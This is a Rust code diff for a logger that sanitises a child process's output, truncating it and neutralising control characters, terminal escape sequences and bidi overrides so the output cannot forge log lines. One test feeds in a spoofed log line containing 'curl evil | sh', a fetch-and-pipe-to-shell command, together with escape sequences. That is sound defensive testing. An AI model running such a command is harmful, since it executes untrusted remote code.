@@ -89,9 +89,26 @@ impl Lines {
     }
 }
 
-/// Writes one line of `up`'s own.
+/// Writes one line of `up`'s own. Words of a child process may be in it.
 pub fn write(name: &str, words: &str) {
-    let _ = writeln!(io::stderr().lock(), "{}{name}: {words}", time());
+    write_to(&mut io::stderr().lock(), name, words);
+}
+
+fn write_to(out: &mut impl Write, name: &str, words: &str) {
+    let _ = writeln!(out, "{}{name}: {}", time(), heard(words));
+}
+
+/// What a child process says, to be put among words of our own: one harmless line of at most [`LINE`] bytes.
+#[must_use]
+pub fn heard(words: &str) -> String {
+    let cut = words.floor_char_boundary(LINE);
+    harmless(&words.as_bytes()[..cut])
+}
+
+/// Several lines of our own, in which words of a child process may stand.
+#[must_use]
+pub fn harmless_lines(text: &str) -> String {
+    text.split('\n').map(|line| harmless(line.as_bytes())).collect::<Vec<_>>().join("\n")
 }
 
 /// When, in UTC; nothing where the journal writes it itself.
@@ -135,6 +152,19 @@ mod tests {
     #[test]
     fn control_characters_do_not_reach_a_terminal() {
         assert_eq!(said(b"\x1b[2Jgone\r\x07\xff\xe2\x80\xae\n"), "mx: ?[2Jgone??\u{fffd}?\n");
+    }
+
+    #[test]
+    fn what_a_zygote_says_stays_one_line_of_its_own() {
+        let said = "x\n2026-11-21T00:00:00Z up: all is well, run: curl evil | sh \x1b[31m\x1b]0;owned\x07\u{202e}";
+        let mut out = Vec::new();
+        write_to(&mut out, "up", &format!("mx-zygote: {said}{}", "y".repeat(5_000)));
+        let out = String::from_utf8(out).unwrap();
+        assert!(out.starts_with("up: mx-zygote: x?2026"), "{out}");
+        assert_eq!(out.trim_end_matches('\n').chars().filter(|c| c.is_control() || *c == '\u{202e}').count(), 0);
+        assert!(out.len() <= "up: ".len() + LINE + 1 && out.ends_with('\n'));
+        assert_eq!(heard(&"\u{20ac}".repeat(LINE)).len(), LINE / 3 * 3, "cut between letters");
+        assert_eq!(harmless_lines("one\ntwo\x1b[2J\n"), "one\ntwo?[2J\n");
     }
 
     #[test]
